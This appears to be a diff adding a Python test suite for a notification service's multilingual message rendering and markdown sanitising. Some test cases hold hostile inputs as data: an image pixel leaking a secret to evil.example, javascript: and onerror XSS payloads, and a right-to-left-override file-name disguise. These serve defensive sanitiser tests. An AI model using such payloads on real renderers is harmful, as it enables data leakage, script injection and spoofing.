@@ -1,0 +1,205 @@
+"""What messages say, in three languages, as text that is nothing but text."""
+
+from __future__ import annotations
+
+import string
+from dataclasses import replace
+from datetime import UTC, datetime
+
+import pytest
+
+from chimes.delivery.inbox import inbox_item, undelivered
+from chimes.delivery.message import LONGEST_OUTPUT, message_of
+from chimes.delivery.plain_text import plain
+from chimes.delivery.words import _TABLES, LANGUAGES, language_of, say
+from chimes.model.delivery import Artifact
+from chimes.model.recipient import Channel, Occasion
+from chimes.model.run import Reason, RunStatus
+from chimes.model.target import HttpTarget, TaskTarget
+from tests.builders import a_run
+from tests.delivery.letters import (
+    a_delivery_of,
+    a_letter,
+    a_message,
+    a_recipient,
+    an_ended_run,
+)
+
+NINE = datetime(2026, 2, 10, 2, 0, tzinfo=UTC)
+
+
+def test_every_language_has_every_word_with_the_same_places() -> None:
+    def places(text: str) -> set[str | None]:
+        return {name for _, name, _, _ in string.Formatter().parse(text)}
+
+    first = _TABLES["en"]
+    for language in LANGUAGES:
+        table = _TABLES[language]
+        assert table.keys() == first.keys()
+        assert all(table[key] and places(table[key]) == places(first[key]) for key in first)
+    assert {status.value for status in RunStatus if status.terminal} <= first.keys()
+
+
+@pytest.mark.parametrize(
+    ("tag", "language"), [("zh-Hans-CN", "zh"), ("th_TH", "th"), ("fr", "en"), ("", "en")]
+)
+def test_a_tag_is_read_for_its_language(tag: str, language: str) -> None:
+    assert language_of(tag) == language
+
+
+# R1.11, Softnix' form: the first line is the same in every language, so that it can be searched
+@pytest.mark.parametrize(
+    ("language", "headline", "planned"),
+    [
+        ("en", "Morning report: succeeded", "Planned for 2026-02-10 09:00 (Asia/Bangkok)"),
+        ("th", "Morning report: สำเร็จ", "กำหนดเวลา 2026-02-10 09:00 (Asia/Bangkok)"),
+        ("zh", "Morning report：成功", "计划时间 2026-02-10 09:00（Asia/Bangkok）"),
+    ],
+)
+def test_a_message_in_each_language(language: str, headline: str, planned: str) -> None:
+    run = an_ended_run("**Two** things:\n\n- one\n- two", slot=NINE, planned_at=NINE)
+    message = a_message(run, language=language)
+    assert message.text == (
+        f"Run {run.id}: succeeded\n{headline}\n{planned}\n\nTwo things:\n\n• one\n• two"
+    )
+    assert message.title == headline
+    assert message.markdown == f"{planned}\n\n**Two** things:\n\n- one\n- two"
+
+
+def test_a_failure_says_why() -> None:
+    run = an_ended_run(
+        status=RunStatus.FAILED,
+        result=None,
+        slot=None,
+        error="HTTP 500\r\nInternal",
+        reason=Reason.CRASH_LIMIT,
+    )
+    assert a_message(run).text.splitlines()[1:] == [
+        "Morning report: failed",
+        "Reason: the nodes that carried it out stopped again and again",
+        "Error: HTTP 500 Internal",
+    ]
+    assert "ข้อผิดพลาด: HTTP 500 Internal" in a_message(run, language="th").text
+    assert a_message(replace(run, reason="http_500")).text.splitlines()[2] == "Reason: http_500"
+
+
+def test_missed_slots_and_recoveries_are_told_as_such() -> None:
+    missed = an_ended_run(status=RunStatus.MISSED, missed_count=7, result=None)
+    assert "7 planned times were missed" in a_message(missed).text
+    assert a_message(an_ended_run(), occasion=Occasion.RECOVERY).title == (
+        "Morning report: works again"
+    )
+
+
+def test_why_a_model_stopped_is_told_unless_it_was_done() -> None:
+    cut = an_ended_run(result={"text": "half", "finish_reason": "length"})
+    assert "Stopped because: length" in a_message(cut).text
+    whole = an_ended_run(result={"text": "all", "finish_reason": "stop"})
+    assert "Stopped" not in a_message(whole).text
+
+
+def test_what_tasks_and_callbacks_answered_is_shown_as_it_is() -> None:
+    task = a_run(
+        target=TaskTarget(name="sum"), status=RunStatus.SUCCEEDED, result={"value": {"total": 3}}
+    )
+    assert a_message(task).text.endswith('{\n  "total": 3\n}')
+    assert a_message(task).markdown.endswith('```\n{\n  "total": 3\n}\n```')
+    call = a_run(
+        target=HttpTarget(url="http://127.0.0.1:1/"),
+        status=RunStatus.SUCCEEDED,
+        result={"status": 200, "body": "**done** ```x```"},
+    )
+    assert a_message(call).text.endswith("**done** ```x```")
+    assert a_message(call).markdown.endswith("````\n**done** ```x```\n````")
+    assert a_message(call).title == "Run: succeeded"
+
+
+def test_a_run_without_a_schedule_is_named_by_its_prompt() -> None:
+    run = replace(an_ended_run(), schedule_id=None, schedule_name="")
+    assert a_message(run).title == "say something: succeeded"
+
+
+def test_a_run_that_is_no_longer_on_record() -> None:
+    delivery = a_delivery_of(an_ended_run(), a_recipient())
+    message = message_of(delivery, None, language="en", zone="UTC")
+    assert message.text.splitlines() == [
+        f"Run {delivery.run_id}",
+        "Morning report: has ended",
+        "The run is no longer on record.",
+    ]
+
+
+# R1.11: up to three are files, the newest; the others are links
+def test_the_newest_three_artifacts_are_files() -> None:
+    made = [{"name": f"{n}.txt", "url": f"http://127.0.0.1:9/{n}"} for n in range(5)]
+    message = a_message(an_ended_run(artifacts=[*made, {"name": "no url"}, "nonsense"]))
+    assert [file.name for file in message.files] == ["2.txt", "3.txt", "4.txt"]
+    assert message.artifacts[0] == Artifact(name="0.txt", url="http://127.0.0.1:9/0")
+    assert message.text.endswith("Files:\n0.txt: http://127.0.0.1:9/0\n1.txt: http://127.0.0.1:9/1")
+
+
+def test_a_very_long_output_is_cut_and_says_so() -> None:
+    message = a_message(an_ended_run("x " * LONGEST_OUTPUT))
+    assert len(message.text) < LONGEST_OUTPUT + 500
+    assert message.text.endswith(say("en", "cut"))
+    assert message.markdown.endswith(say("en", "cut"))
+
+
+def test_the_way_to_the_run() -> None:
+    run = an_ended_run()
+    text = a_message(run, public_url="https://chimes.example").text
+    assert text.endswith(f"Open: https://chimes.example/runs/{run.id}")
+
+
+# S60: what would make a text look like another one is gone
+def test_names_and_outputs_cannot_disguise_themselves() -> None:
+    run = an_ended_run("safe\u202egnp.exe\x1b[31m\x00 <b>bold</b>")
+    run = replace(run, schedule_name="a\u202eb\n<b>_*[]()c</b>")
+    message = a_message(run)
+    assert message.title == "ab <b>_*[]()c</b>: succeeded"
+    assert message.text.endswith("safegnp.exe[31m <b>bold</b>")
+
+
+# S74
+@pytest.mark.parametrize(
+    ("markdown", "text"),
+    [
+        ("![pixel](https://evil.example/?q=secret)", "pixel"),
+        ("[press](tg://resolve?domain=evil)", "press"),
+        ("[press](javascript:alert(1))", "[press](javascript:alert(1))"),
+        ("[press](https://example.com/a)", "press (https://example.com/a)"),
+        ("<https://example.com/a>", "https://example.com/a"),
+        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
+        ("# One\n\n1. a\n2. **b**\n\n> said", "One\n\n1. a\n2. b\n\n> said"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", "a | b\n1 | 2"),
+        ("- a\n  - b", "• a\n  • b"),
+        ("~~old~~ `code` *new*\n***\nend", "old code new\n\n———\n\nend"),
+        ("```sh\nls *\n```", "ls *"),
+    ],
+)
+def test_markdown_becomes_text(markdown: str, text: str) -> None:
+    assert plain(markdown) == text
+
+
+def test_nesting_without_end_is_no_trouble() -> None:
+    assert "x" in plain(">" * 5000 + "x")
+    assert plain("- " * 3000 + "x")
+
+
+# I8: one item for each delivery
+def test_an_item_of_the_inbox_is_made_once() -> None:
+    letter = a_letter(recipient=a_recipient(Channel.INBOX))
+    item = inbox_item(letter)
+    assert inbox_item(letter) == item
+    assert item.title == "Morning report: succeeded"
+    assert (item.status, item.owner) == ("succeeded", letter.owner)
+    notice = undelivered(letter, "Forbidden")
+    assert notice.id != item.id
+
+
+def test_a_notice_of_what_was_not_delivered_hides_secrets() -> None:
+    recipient = a_recipient(Channel.WEBHOOK, to="https://example.com/h?token=abcdefgh")
+    notice = undelivered(a_letter(recipient=recipient), "HTTP 404")
+    assert notice.title == "Not delivered by webhook: Morning report: succeeded"
+    assert "https://example.com/h?token=***: HTTP 404" in notice.text
+    assert notice.text.endswith("all is well")
